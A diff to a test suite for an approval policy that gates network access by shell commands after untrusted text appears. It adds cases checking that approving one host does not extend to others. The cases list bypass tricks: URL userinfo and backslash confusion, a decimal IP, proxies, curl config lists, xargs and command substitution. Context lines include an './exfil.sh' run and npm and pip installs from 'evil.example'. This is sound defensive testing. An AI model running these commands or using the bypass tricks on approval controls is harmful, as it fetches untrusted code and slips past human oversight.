@@ -31,6 +31,9 @@ describe('an isolated command where the network is off after text from outside w
     ['curl https://example.com/a', 'curl to example.com'],
     ['wget example.org/x', 'wget to example.org'],
     ['git fetch https://example.com/x.git', 'git to example.com'],
+    ['scp a example.com:b', 'scp to example.com'],
+    ['curl https://example.com/a https://example.org/b', 'curl to example.com, curl to example.org'],
+    ['curl -K list https://example.com/a', 'curl to example.com, curl to others'],
     ['npm ci && ./exfil.sh', 'exfil.sh would have too'],
     ['npm install https://evil.example/x.tgz', 'npm to evil.example'],
     ['pip install --index-url https://evil.example/simple x', 'evil.example'],
@@ -61,6 +64,48 @@ describe('an isolated command where the network is off after text from outside w
     if (first.type === 'ask') await asking.settled(first.approvalId)
     expect((await asking.decide(action('curl https://example.com/b'), subject)).type).toBe('allow')
     expect((await asking.decide(action('curl https://other.example/b'), subject)).type).toBe('ask')
+  })
+
+  it.each([
+    ['another address beside it', 'curl https://example.com/a https://other.example/b'],
+    ['one of an option', 'curl https://example.com/a --url=https://other.example/b'],
+    ['one in another program', 'curl https://example.com/a && curl https://other.example/b'],
+    ['an address behind the name of its host', 'curl example.com:x@other.example'],
+    ['an address that programs read in two ways', String.raw`curl 'https://example.com\@other.example/'`],
+    ['a number for an address', 'curl https://example.com/a 2130706433'],
+    ['a proxy', 'curl -x other:80 https://example.com/a'],
+    ['a proxy in a variable', 'https_proxy=other:80 curl https://example.com/a'],
+    ['addresses of a file', 'curl -K list https://example.com/a'],
+    ['another address for the host', 'curl --connect-to example.com:443:other:443 https://example.com/a'],
+    ['addresses that xargs adds', 'cat list | xargs curl https://example.com/a'],
+    ['words that are known only then', 'curl https://example.com/a $(cat list)'],
+    ['an address of this machine in front', 'curl http://localhost:3000/ https://other.example/'],
+  ])('that answer does not count for %s', async (_, command) => {
+    const asking = policy()
+    asking.listen('*', (id) => void asking.answer(id, 'session'))
+    const first = await asking.decide(action('curl https://example.com/a'), subject)
+    if (first.type === 'ask') await asking.settled(first.approvalId)
+    expect((await asking.decide(action(command), subject)).type).toBe('ask')
+  })
+
+  it.each([
+    ...['curl -sSLo b.json https://example.com/b', 'curl -H "Accept: text/plain" --max-time 5 https://example.com/c'],
+    ...['curl -fsSL https://example.com/d -o out/d.tgz', 'curl example.com/e'],
+    'curl https://example.com/a https://example.com/b',
+  ])('that answer counts for %s', async (command) => {
+    const asking = policy()
+    asking.listen('*', (id) => void asking.answer(id, 'session'))
+    const first = await asking.decide(action('curl https://example.com/a'), subject)
+    if (first.type === 'ask') await asking.settled(first.approvalId)
+    expect((await asking.decide(action(command), subject)).type).toBe('allow')
+  })
+
+  it('a file that a command writes is no host', async () => {
+    const asking = policy()
+    asking.listen('*', (id) => void asking.answer(id, 'session'))
+    const first = await asking.decide(action('curl -o data.json https://example.com/a'), subject)
+    if (first.type === 'ask') await asking.settled(first.approvalId)
+    expect((await asking.decide(action('curl -o data.json https://other.example/a'), subject)).type).toBe('ask')
   })
 
   it.each([
